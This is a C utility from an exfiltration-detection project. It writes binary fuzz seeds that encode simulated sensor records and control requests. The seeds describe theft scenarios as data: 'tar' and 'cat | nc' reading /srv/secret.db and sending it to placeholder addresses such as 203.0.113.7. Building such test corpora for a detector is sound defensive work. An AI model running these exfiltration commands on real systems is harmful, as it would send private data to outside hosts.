// SPDX-License-Identifier: GPL-2.0-only
/*
 * Writes the binary seeds of the record and IPC fuzz targets from the
 * structs of include/exfilmon_abi.h and userspace/ipc.h, so that after an
 * ABI change `make fuzz-seeds` rewrites them in the new layout:
 *   <dir>/fuzz_records/<scenario>   records as a sensor delivers them
 *   <dir>/fuzz_ipc/<command>        requests as exfilctl sends them
 * The text seeds (configs, SQL) are written by hand.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

#include "exfilmon_abi.h"
#include "ipc.h"

#define MiB (1024 * 1024ull)
#define SEC 1000000000ull

static const struct exfilmon_file_key secret = { .dev = 8 << 20 | 1,
						 .ino = 4242 };
static const struct exfilmon_file_key pipe_obj = {
	.dev = EXFILMON_KEY_TAG_UNIX | 77, .ino = 77 };
static const struct exfilmon_file_key staged = { .dev = 8 << 20 | 1,
						 .ino = 5151 };

struct out {
	char buf[64 * 1024];
	size_t len;
};

static void put(struct out *o, const void *rec, size_t len)
{
	if (o->len + len > sizeof(o->buf)) {
		fprintf(stderr, "mkseeds: seed too long\n");
		exit(1);
	}
	memcpy(o->buf + o->len, rec, len);
	o->len += len;
}

static int save(const char *dir, const char *sub, const char *name,
		const void *buf, size_t len)
{
	char path[4096];
	FILE *f;

	snprintf(path, sizeof(path), "%s/%s", dir, sub);
	if (mkdir(path, 0755) && errno != EEXIST)
		goto fail;
	snprintf(path, sizeof(path), "%s/%s/%s", dir, sub, name);
	f = fopen(path, "we");
	if (!f)
		goto fail;
	if (fwrite(buf, 1, len, f) != len) {
		fclose(f);
		goto fail;
	}
	if (fclose(f))
		goto fail;
	return 0;
fail:
	fprintf(stderr, "mkseeds: failed to write %s: %s\n", path,
		strerror(errno));
	return -1;
}

static struct exfilmon_pkey pk(uint32_t pid)
{
	return (struct exfilmon_pkey){ .tgid = pid, .start_ns = pid * 1000ull };
}

static void hdr(struct exfilmon_rec_hdr *h, uint16_t type, size_t size,
		uint32_t pid, uint64_t ts)
{
	h->type = type;
	h->size = size;
	h->ts_ns = ts;
	h->proc = pk(pid);
}

static void fork_rec(struct out *o, uint32_t parent, uint32_t child,
		     const char *comm, uint64_t ts)
{
	struct exfilmon_rec_fork r = { 0 };

	hdr(&r.hdr, EXFILMON_REC_FORK, sizeof(r), child, ts);
	r.parent = pk(parent);
	r.uid = 1000;
	snprintf(r.comm, sizeof(r.comm), "%s", comm);
	put(o, &r, sizeof(r));
}

/* argv as NUL-separated strings, as the sensor copies them */
static void exec_rec(struct out *o, uint32_t pid, uint32_t ppid,
		     const char *exe, const char *const *argv, uint64_t ts)
{
	struct exfilmon_rec_exec r = { 0 };
	size_t n = 0;

	hdr(&r.hdr, EXFILMON_REC_EXEC, sizeof(r), pid, ts);
	r.ppid = ppid;
	r.uid = 1000;
	snprintf(r.comm, sizeof(r.comm), "%s", strrchr(exe, '/') + 1);
	snprintf(r.exe, sizeof(r.exe), "%s", exe);
	for (; *argv; argv++) {
		size_t l = strlen(*argv) + 1;

		memcpy(r.args + n, *argv, l);
		n += l;
	}
	r.args_len = n;
	put(o, &r, sizeof(r));
}

static void proc_state(struct exfilmon_proc *p, uint64_t read, uint64_t taint,
		       uint64_t sent, uint64_t ts, uint32_t chan,
		       const struct exfilmon_file_key *src)
{
	p->bytes_read = read;
	p->taint = taint;
	p->bytes_sent = sent;
	p->first_ns = ts;
	p->last_ns = ts;
	p->watch_id = 1;
	p->src_chan = chan;
	p->src_obj = *src;
	p->src_bytes = taint;
}

static void read_rec(struct out *o, uint32_t pid, uint32_t chan,
		     const struct exfilmon_file_key *file, uint32_t writer,
		     uint64_t total, uint64_t ts)
{
	struct exfilmon_rec_io r = { 0 };

	hdr(&r.hdr, EXFILMON_REC_READ, sizeof(r), pid, ts);
	r.delta = total;
	r.op = EXFILMON_OP_READ;
	r.watch_id = 1;
	r.chan = chan;
	r.total = (struct exfilmon_count){ total, total / 65536 + 1, ts, ts };
	proc_state(&r.proc, chan == EXFILMON_CHAN_READ ? total : 0, total, 0,
		   ts, chan, file);
	r.file = *file;
	if (writer)
		r.peer = pk(writer);
	put(o, &r, sizeof(r));
}

static void flow_rec(struct out *o, uint32_t pid, uint32_t chan,
		     const struct exfilmon_file_key *obj, uint64_t total,
		     uint64_t ts)
{
	struct exfilmon_rec_io r = { 0 };

	hdr(&r.hdr, EXFILMON_REC_FLOW, sizeof(r), pid, ts);
	r.delta = total;
	r.op = EXFILMON_OP_WRITE;
	r.watch_id = 1;
	r.chan = chan;
	r.total = (struct exfilmon_count){ total, total / 65536 + 1, ts, ts };
	proc_state(&r.proc, total, total, 0, ts, EXFILMON_CHAN_READ, &secret);
	r.proc.carried = total;
	r.file = *obj;
	put(o, &r, sizeof(r));
}

static void send_rec(struct out *o, uint32_t pid, const char *addr,
		     uint16_t port, uint64_t taint, uint64_t total,
		     uint64_t ts)
{
	struct exfilmon_rec_io r = { 0 };

	hdr(&r.hdr, EXFILMON_REC_SEND, sizeof(r), pid, ts);
	r.delta = total;
	r.op = EXFILMON_OP_SENDTO;
	r.total = (struct exfilmon_count){ total, total / 65536 + 1, ts, ts };
	proc_state(&r.proc, taint, taint, total, ts, EXFILMON_CHAN_READ,
		   &secret);
	if (strchr(addr, ':')) {
		r.dest.family = EXFILMON_AF_INET6;
		inet_pton(AF_INET6, addr, r.dest.addr);
	} else {
		r.dest.family = EXFILMON_AF_INET;
		inet_pton(AF_INET, addr, r.dest.addr);
	}
	r.dest.port = port;
	r.dest.proto = EXFILMON_PROTO_TCP;
	put(o, &r, sizeof(r));
}

static void exit_rec(struct out *o, uint32_t pid, uint64_t taint,
		     uint64_t sent, uint64_t ts)
{
	struct exfilmon_rec_exit r = { 0 };

	hdr(&r.hdr, EXFILMON_REC_EXIT, sizeof(r), pid, ts);
	r.tracked = taint != 0;
	if (taint)
		proc_state(&r.proc, taint, taint, sent, ts, EXFILMON_CHAN_READ,
			   &secret);
	r.proc.flags = EXFILMON_PROC_EXITED;
	put(o, &r, sizeof(r));
}

/* path components leaf first, each NUL-terminated */
static void derived_rec(struct out *o, uint32_t pid, uint64_t taint,
			uint64_t ts)
{
	static const char path[] = "loot.tar\0alice\0home";
	struct exfilmon_rec_derived r = { 0 };

	hdr(&r.hdr, EXFILMON_REC_DERIVED, sizeof(r), pid, ts);
	r.key = staged;
	r.obj.flags = EXFILMON_OBJ_DERIVED;
	r.obj.watch_id = 1;
	r.obj.chan = EXFILMON_CHAN_FILE;
	r.obj.taint = taint;
	r.obj.last_ns = ts;
	r.obj.writer = pk(pid);
	memcpy(r.path, path, sizeof(path));
	r.path_len = sizeof(path);
	put(o, &r, sizeof(r));
}

static int records(const char *dir)
{
	static const char *const tar[] = { "tar", "czf", "-", "/srv/secret.db",
					   NULL };
	static const char *const cat[] = { "cat", "/srv/secret.db", NULL };
	static const char *const nc[] = { "nc", "203.0.113.7", "443", NULL };
	static struct out o;
	uint64_t t = 100 * SEC;
	int ret = 0;

	/* a shell forks tar, which reads the database and uploads it */
	o.len = 0;
	fork_rec(&o, 1000, 1001, "bash", t);
	exec_rec(&o, 1001, 1000, "/usr/bin/tar", tar, t + 1);
	read_rec(&o, 1001, EXFILMON_CHAN_READ, &secret, 0, 2 * MiB, t + 2);
	send_rec(&o, 1001, "203.0.113.7", 443, 2 * MiB, 1 * MiB, t + 3);
	send_rec(&o, 1001, "203.0.113.7", 443, 2 * MiB, 2 * MiB, t + 4);
	exit_rec(&o, 1001, 2 * MiB, 2 * MiB, t + 5);
	ret |= save(dir, "fuzz_records", "theft", o.buf, o.len);

	/* cat | nc: the taint goes through a pipe, over IPv6 */
	o.len = 0;
	exec_rec(&o, 2000, 1, "/usr/bin/cat", cat, t);
	read_rec(&o, 2000, EXFILMON_CHAN_READ, &secret, 0, 3 * MiB, t + 1);
	flow_rec(&o, 2000, EXFILMON_CHAN_PIPE, &pipe_obj, 3 * MiB, t + 2);
	exec_rec(&o, 2001, 1, "/usr/bin/nc", nc, t);
	read_rec(&o, 2001, EXFILMON_CHAN_PIPE, &pipe_obj, 2000, 3 * MiB,
		 t + 3);
	send_rec(&o, 2001, "2001:db8::7", 8443, 3 * MiB, 3 * MiB, t + 4);
	exit_rec(&o, 2000, 3 * MiB, 0, t + 5);
	exit_rec(&o, 2001, 3 * MiB, 3 * MiB, t + 6);
	ret |= save(dir, "fuzz_records", "pipe_chain", o.buf, o.len);

	/* staged to a file first, then uploaded by another process */
	o.len = 0;
	read_rec(&o, 3000, EXFILMON_CHAN_READ, &secret, 0, 2 * MiB, t);
	flow_rec(&o, 3000, EXFILMON_CHAN_FILE, &staged, 2 * MiB, t + 1);
	derived_rec(&o, 3000, 2 * MiB, t + 1);
	read_rec(&o, 3001, EXFILMON_CHAN_FILE, &staged, 3000, 2 * MiB, t + 2);
	send_rec(&o, 3001, "198.51.100.9", 22, 2 * MiB, 2 * MiB, t + 3);
	ret |= save(dir, "fuzz_records", "staged_file", o.buf, o.len);

	/* a process that reads and exits without sending: no alert */
	o.len = 0;
	fork_rec(&o, 1, 4000, "backup", t);
	read_rec(&o, 4000, EXFILMON_CHAN_READ, &secret, 0, 512 * 1024, t + 1);
	exit_rec(&o, 4000, 512 * 1024, 0, t + 2);
	ret |= save(dir, "fuzz_records", "read_only", o.buf, o.len);
	return ret;
}

static int request(const char *dir, const char *name, const char *json)
{
	struct ipc_hdr h = { .magic = IPC_MAGIC, .version = IPC_VERSION,
			     .len = strlen(json) };
	char buf[1024];

	memcpy(buf, &h, sizeof(h));
	memcpy(buf + sizeof(h), json, h.len);
	return save(dir, "fuzz_ipc", name, buf, sizeof(h) + h.len);
}

/* The requests exfilctl sends (userspace/exfilctl.c, docs/ipc.md). */
static int requests(const char *dir)
{
	int ret = 0;

	ret |= request(dir, "status", "{\"v\":1,\"cmd\":\"status\"}");
	ret |= request(dir, "alerts", "{\"v\":1,\"cmd\":\"alerts\"}");
	ret |= request(dir, "alerts_since",
		       "{\"v\":1,\"cmd\":\"alerts\",\"since_s\":3600}");
	ret |= request(dir, "show", "{\"v\":1,\"cmd\":\"show\",\"id\":1}");
	ret |= request(dir, "query",
		       "{\"v\":1,\"cmd\":\"query\",\"sql\":"
		       "\"SELECT id, host, bytes_sent FROM alerts\"}");
	ret |= request(dir, "watch_list",
		       "{\"v\":1,\"cmd\":\"watch\",\"op\":\"list\"}");
	ret |= request(dir, "watch_add",
		       "{\"v\":1,\"cmd\":\"watch\",\"op\":\"add\","
		       "\"path\":\"/srv/secret.db\"}");
	ret |= request(dir, "reload", "{\"v\":1,\"cmd\":\"reload\"}");
	return ret;
}

int main(int argc, char **argv)
{
	if (argc != 2) {
		fprintf(stderr, "usage: mkseeds <corpus dir>\n");
		return 2;
	}
	return records(argv[1]) || requests(argv[1]) ? 1 : 0;
}
